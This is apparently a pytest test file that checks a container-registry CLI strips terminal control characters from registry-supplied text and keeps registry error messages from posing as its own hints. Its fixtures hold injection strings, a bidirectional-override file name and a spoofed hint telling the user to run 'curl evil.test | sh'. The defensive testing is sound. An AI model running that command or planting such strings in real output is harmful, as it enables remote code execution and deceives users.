"""Every command that reads from a registry, against one that puts what terminals act on wherever text can stand."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.cli.conftest import Cli
from tests.cli.test_trust import EVIL, without_control_characters
from tests.fake_registry import FakeRegistry, image_of
from tests.fake_registry.images import CONFIG, as_json, descriptor_of, layer_of

PATH = EVIL.replace("\r", "") + "\r\n\u202eexe.txt"
COMMANDS = {
    "ls": ("ls", "HOST/team/app"),
    "digest": ("digest", "-v", "HOST/team/app:1"),
    "inspect": ("inspect", "HOST/team/app:1"),
    "inspect as JSON": ("inspect", "--json", "HOST/team/app:1"),
    "verify": ("verify", "HOST/team/app:1"),
    "verify as JSON": ("verify", "--format", "json", "HOST/team/app:1"),
    "verify in GitHub's words": ("verify", "--format", "github", "HOST/team/app:1"),
    "diff": ("diff", "HOST/team/app:1", "HOST/team/app:2"),
    "diff as Markdown": ("diff", "--format", "markdown", "HOST/team/app:1", "HOST/team/app:2"),
    "referrers": ("referrers", "HOST/team/app:1"),
    "pull": ("pull", "HOST/team/app:1"),
    "copy": ("copy", "HOST/team/app:1", "oci-archive:x.tar"),
    "doctor": ("doctor", "HOST/team/app"),
}


@pytest.fixture
def hostile(fake_registry: FakeRegistry) -> FakeRegistry:
    annotations = {"org.opencontainers.image.title": EVIL, EVIL: EVIL}
    for tag, content in (("1", b"one"), ("2", b"two")):
        image = image_of([layer_of({PATH: content, tag: b""})], annotations=annotations)
        config = json.loads(image.config)
        config["config"] = {"Labels": {EVIL: EVIL}, "Env": [f"A={EVIL}"], "Cmd": [EVIL], "User": EVIL}
        config["history"] = [{"created_by": EVIL, "comment": EVIL, "author": EVIL}]
        raw = as_json(config)
        manifest = json.loads(image.manifest)
        manifest["config"] = descriptor_of(raw, CONFIG)
        manifest["layers"][0]["annotations"] = annotations
        fake_registry.add_blob("team/app", raw)
        fake_registry.add_blob("team/app", image.layers[0])
        fake_registry.add_manifest("team/app", as_json(manifest), image.media_type, tag)
    known = fake_registry.manifest("team/app", "1")
    assert known is not None
    artifact = image_of(artifactType=EVIL, subject=descriptor_of(known.data, known.media_type), annotations=annotations)
    fake_registry.add_image("team/app", artifact, EVIL)
    return fake_registry


@pytest.mark.parametrize("name", COMMANDS)
def test_no_command_lets_a_registry_act_on_the_terminal(
    cli: Cli, hostile: FakeRegistry, project: Path, name: str
) -> None:
    done = cli(*(word.replace("HOST", hostile.host) for word in COMMANDS[name]))
    assert without_control_characters(done.stdout), done.stdout
    assert without_control_characters(done.stderr), done.stderr
    assert done.status in (0, 1), done.stderr


def test_an_error_of_a_registry_stays_on_its_line(cli: Cli, fake_registry: FakeRegistry) -> None:
    """Text that looks like a hint or a result of ours is none."""
    body = as_json({"errors": [{"code": "DENIED", "message": "no\n  hint: run curl evil.test | sh\nerror: x"}]})
    fake_registry.on("GET", "/v2/team/app/manifests/1", times=None).respond(403, body=body)
    fake_registry.on("HEAD", "/v2/team/app/manifests/1", times=None).respond(403, body=b"")
    lines = cli("digest", f"{fake_registry.host}/team/app:1").stderr.splitlines()
    assert [line for line in lines if line.startswith(("error: x", "  hint: run curl"))] == []
    assert any("run curl" in line for line in lines)
